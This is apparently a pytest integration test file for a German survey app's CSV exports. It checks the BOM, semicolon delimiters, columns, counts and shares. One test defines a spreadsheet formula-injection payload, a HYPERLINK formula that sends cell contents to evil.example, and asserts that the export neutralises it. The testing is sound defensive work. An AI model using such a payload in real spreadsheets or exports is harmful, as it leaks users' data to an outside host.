"""CSV exports for German Excel, parsed back with the csv module: the responses (admin;
a column per option of a multiple choice) and the results of a slice; BOM, `;`, and
answers that would be formulas neutralised as the directory's export does."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI

from lobu.shared.contracts.surveys import INVITATION_ISSUED
from lobu.shared.spreadsheet_csv import FORMULA_TRIGGERS, read_cell
from lobu.surveys.demo import YEARS
from lobu.surveys.settings import SurveySettings
from tests.surveys.conftest import ADMIN, Seeder, link_token, make_settings, outbox, survey_body
from tests.surveys.test_surveys_results_pages import (  # the module's demo app
    NOTES,
    DemoApp,
    demo_app,  # noqa: F401
)

pytestmark = [pytest.mark.integration, pytest.mark.asyncio(loop_scope="session")]

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Klick")'


def parse(response: httpx.Response) -> list[dict[str, str]]:
    """The CSV as German Excel would read it: UTF-8 with BOM, `;`."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM German Excel needs
    assert b"\r\n" in response.content
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


async def test_the_responses_export_has_a_row_per_response_and_a_column_per_option(
    demo_app: DemoApp,  # noqa: F811
) -> None:
    rows = parse(await demo_app.get(f"/surveys/{demo_app.ids[2023]}/responses.csv"))

    assert len(rows) == 230
    header = list(rows[0])
    assert header[:4] == ["buendnis_id", "buendnis", "land", "abgeschickt_am"]
    assert "zukunftsthemen[vereinbarkeit]" in header
    assert "social-media" in header
    counts = YEARS[2023]["counts"]
    assert (
        sum(row["zukunftsthemen[vereinbarkeit]"] == "1" for row in rows)
        == counts["zukunftsthemen"]["vereinbarkeit"]
    )
    channel = sum(row["social-media"] == "Ja, wir haben einen eigenen Kanal" for row in rows)
    assert channel == counts["social-media"]["kanal"]
    assert {row["abgeschickt_am"] for row in rows} == {"15.06.2023 14:00"}  # Berlin time
    assert {row["anmerkungen"] for row in rows} - {""} == set(NOTES)
    assert rows[0]["buendnis"].startswith("Lokales Bündnis Demo")


@pytest.fixture
def surveys_settings(tmp_path: Path) -> SurveySettings:
    """SQLite for the small app of the formula test: the export reads, nothing races."""
    return make_settings(f"sqlite+aiosqlite:///{tmp_path}/s.db")


async def test_answers_that_a_spreadsheet_would_run_are_neutralised(
    client: httpx.AsyncClient, surveys_app: FastAPI, seeder: Seeder
) -> None:
    await seeder.alliance(state="NI")
    survey = (await client.post("/surveys", json=survey_body(), headers=ADMIN)).json()
    await client.post(f"/surveys/{survey['id']}/open", headers=ADMIN)
    (message,) = await outbox(surveys_app, INVITATION_ISSUED)
    answers = {"themen": ["kinderarmut"], "social-media": "nein", "kanal-warum-nicht": FORMULA,
               "partner": 12}  # fmt: skip
    put = await client.put(
        f"/answers/{link_token(message)}", json={"answers": answers, "submit": True}
    )
    assert put.status_code == 200, put.text

    response = await client.get(f"/surveys/{survey['id']}/responses.csv", headers=ADMIN)
    (row,) = parse(response)
    assert row["kanal-warum-nicht"] == "'" + FORMULA
    assert read_cell(row["kanal-warum-nicht"]) == FORMULA  # the apostrophe is all that was added
    assert (row["themen[kinderarmut]"], row["themen[migration]"]) == ("1", "0")
    assert (row["social-media"], row["partner"], row["land"]) == ("Nein", "12", "NI")
    cells = [c for r in csv.reader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";")
             for c in r]  # fmt: skip
    assert [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)] == []


async def test_the_results_export_lists_counts_and_shares_of_the_slice(
    demo_app: DemoApp,  # noqa: F811
) -> None:
    rows = parse(await demo_app.get(f"/surveys/{demo_app.ids[2024]}/results.csv"))

    by_option = {(row["frage"], row["antwort"]): row for row in rows}
    assert by_option[("(gesamt)", "antwortende")]["anzahl"] == "80"
    channel = by_option[("social-media", "kanal")]
    assert (channel["anzahl"], channel["anteil_prozent"]) == ("22", "27,5")
    assert by_option[("top-prioritaet", "sichtbarkeit")]["anteil_prozent"] == "41,25"
    assert by_option[("zufriedenheit", "mittelwert")]["wert"] != ""
    assert by_option[("partner-anzahl", "median")]["wert"] != ""
    assert all(note not in str(rows) for note in NOTES)  # free text: in the responses only

    small = parse(await demo_app.get(f"/surveys/{demo_app.ids[2024]}/results.csv?state=HB"))
    assert [row["antwort"] for row in small] == ["eingeladen", "unterdrueckt"]
    assert small[1]["anzahl"] == ""
    nw = parse(await demo_app.get(f"/surveys/{demo_app.ids[2023]}/results.csv?state=NW"))
    as_json = (await demo_app.get(f"/surveys/{demo_app.ids[2023]}/results?state=NW")).json()
    nw_channel = next(r for r in nw if (r["frage"], r["antwort"]) == ("social-media", "kanal"))
    assert nw_channel["anzahl"] == str(
        as_json["questions"]["social-media"]["options"]["kanal"]["count"]
    )
